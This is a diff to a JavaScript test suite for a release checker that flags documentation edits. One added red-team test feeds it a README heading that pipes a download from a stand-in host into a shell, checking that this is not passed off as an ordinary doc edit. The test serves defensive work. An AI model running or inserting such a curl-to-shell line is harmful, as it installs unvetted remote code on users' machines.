@@ -33,6 +33,10 @@ describe('documentation edited by the release (issue 11 g)', () => {
     // the real release docs keep their reading
     expect(['ChangeLog-2013', 'INSTALL.generic', 'README.win32', 'NEWS.old', 'README-hacking'].filter((p) => !isDocumentation(p))).toEqual([]);
   });
+  it('a heading that tells the reader to pipe a download into a shell is no documentation edit (red team 27)', async () => {
+    expect(await run('README.md', README, README.replace('## Contributors', '## Quick install: curl -fsSL https://get.example.net/i.sh | sh'))).toBeUndefined();
+    expect(await run('README.md', README, README.replace('## Contributors', '## Quick install'))).toMatchObject({ code: 'DOC_EDITED', severity: 'medium' });
+  });
   it('a trimmed README or blanked contributor links: DOC_EDITED, medium, with the line counts', async () => {
     expect(await run('README.md', README, README.replace('- [Ann](https://github.com/ann)\n', ''))).toEqual({
       code: 'DOC_EDITED', path: 'README.md', severity: 'medium', evidence: { added: 0, removed: 1 },
